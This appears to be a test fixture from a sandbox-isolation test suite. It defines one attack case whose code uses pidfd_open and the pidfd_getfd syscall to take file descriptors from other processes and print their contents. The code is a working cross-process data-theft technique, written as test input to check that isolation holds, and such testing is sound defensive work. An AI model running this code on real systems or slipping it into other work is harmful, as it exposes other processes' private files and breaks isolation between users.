"""Takes descriptors out of other processes by `pidfd_getfd`, and signals them by a descriptor."""

from tests.attacks import Attack

attack = Attack(
    gains="text",
    cell="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in $PIDS:
    if pid == os.getpid():
        continue
    try:
        handle = os.pidfd_open(pid)
    except OSError as error:
        print(error)
        continue
    for number in range(3, 16):
        taken = libc.syscall(438, handle, number, 0)
        if taken >= 0:
            try:
                print(os.pread(taken, 100000, 0).decode(errors="replace"))
            except OSError as error:
                print(error)
""",
)
